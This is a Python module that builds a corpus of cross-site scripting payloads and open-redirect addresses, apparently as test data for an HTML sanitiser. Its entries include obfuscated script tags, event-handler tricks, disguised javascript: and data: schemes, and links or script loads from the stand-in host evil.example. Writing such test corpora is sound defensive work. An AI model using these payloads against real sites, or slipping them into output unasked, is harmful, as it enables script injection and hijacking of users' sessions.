"""Texts that try to become scripts or links to another site, in forms that work in some browsers or libraries."""

from html import escape
from itertools import product
from urllib.parse import quote

SCRIPT = "alert(1)"

_TAGS = (
    *("img src=x", "svg", "svg/", "body", "iframe", "input autofocus", "details open", "video src=x", "audio src=x"),
    *("marquee", "math", "a href=/ ", "b", "object data=x", "select autofocus", "p"),
)
_HANDLERS = ("onerror", "onload", "OnFocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_FORMS = ('<{tag} {handler}="{script}">', "<{tag}/{handler}={script}>", "<{tag}\t{handler}\n=\n'{script}'>")

MARKUP = [
    f.format(tag=tag, handler=handler, script=SCRIPT)
    for number, (tag, handler) in enumerate(product(_TAGS, _HANDLERS))
    for f in (_FORMS[number % len(_FORMS)],)
] + [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt >{SCRIPT}</sCrIpT >",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script/x>{SCRIPT}</script>",
    "<script src=//evil.example/x.js></script>",
    f"</title></textarea></style></script><script>{SCRIPT}</script>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><style><img src=x onerror={SCRIPT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[><img src=x onerror={SCRIPT}>]]>",
    f"<style>@import 'javascript:{SCRIPT}';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>",
    f"<button formaction=javascript:{SCRIPT}>go</button>",
    f"<p style=background:url(javascript:{SCRIPT})>x</p>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    "<embed src=//evil.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    "<img srcset='//evil.example/x.png 1x' src=x>",
    "<a href=/ ping=//evil.example/>x</a>",
    "<p data-moe-experience=forged data-moe-click=buy>x</p>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    " onmouseover=alert(1) ",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ personalization }}{% load static %}{% debug %}",
    "\u2028<script>alert(1)</script>\u2029",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]
"""Texts that try to become an element or an attribute."""

_SCHEMES = ("javascript", "JaVaScRiPt", "data", "vbscript", "file", "blob", "view-source", "about", "ftp", "intent")
_DISGUISES = (
    "{scheme}:{rest}",
    " {scheme}:{rest}",
    "\x01{scheme}:{rest}",
    "\t{scheme}:{rest}",
    "{scheme}\n:{rest}",
    "{head}\t{tail}:{rest}",
    "{head}\r\n{tail}:{rest}",
    "{scheme}&colon;{rest}",
    "{scheme}&#58;{rest}",
    "{scheme}%3A{rest}",
    "{scheme}://%0a{rest}",
    "\u00a0{scheme}:{rest}",
    "\ufeff{scheme}:{rest}",
)
_RESTS = {"data": "text/html,<script>alert(1)</script>", "ftp": "//evil.example/", "file": "///etc/passwd"}

SCHEMES = [
    form.format(scheme=scheme, head=scheme[:4], tail=scheme[4:], rest=_RESTS.get(scheme, SCRIPT))
    for scheme, form in product(_SCHEMES, _DISGUISES)
]
"""Addresses with a scheme that runs a script or isn't http."""

_HOST = "evil.example"
FOREIGN = [
    *(
        f"{prefix}{_HOST}{end}"
        for prefix in ("http://", "https://", "//", "HTTPS://")
        for end in ("", "/", "/?x", ":80/")
    ),
    *(f"{prefix}{_HOST}/" for prefix in ("///", "////", "/\\", "\\\\", "\\/", "/\t/", "/\n/", "\t//", " //", "\x00//")),
    *(f"{prefix}{_HOST}/" for prefix in ("http:/\\", "http:\\\\", "https:///", "http:////", "https:\\/", "http:\t//")),
    *(f"https://testserver{sign}{_HOST}/" for sign in ("@", ".", ":80@", "%40", "#@", "\\@", "%00.", "\u3002")),
    f"https://{_HOST}#testserver/",
    f"https://{_HOST}?testserver/",
    f"https://{_HOST}\\testserver/",
    f"https://{quote(_HOST, safe='').replace('.', '%2e')}/",
    f"https://{_HOST.replace('.', chr(0xFF0E))}/",
    "https://[::1]/",
    "https://[testserver/",
    "https://2130706433/",
    f"/redirect/../..//{_HOST}/",
    f"/%2f{_HOST}/",
    f"/.//{_HOST}/",
    f"//testserver@{_HOST}/",
    f"https:{_HOST}/",
    f"http:/{_HOST}",
    f"?next=//{_HOST}/",
]
"""Addresses that lead, or seem to lead, to another site."""

LINKS = [
    *(f'<a href="{escape(url)}">x</a>' for url in [*SCHEMES[::3], *FOREIGN]),
    *(f'<img src="{escape(url)}">' for url in [*SCHEMES[1::5], *FOREIGN[::2]]),
]
"""Allowed elements with forbidden addresses."""

CORPUS = [*MARKUP, *SCHEMES, *FOREIGN, *LINKS, *map(escape, SCHEMES[:20])]
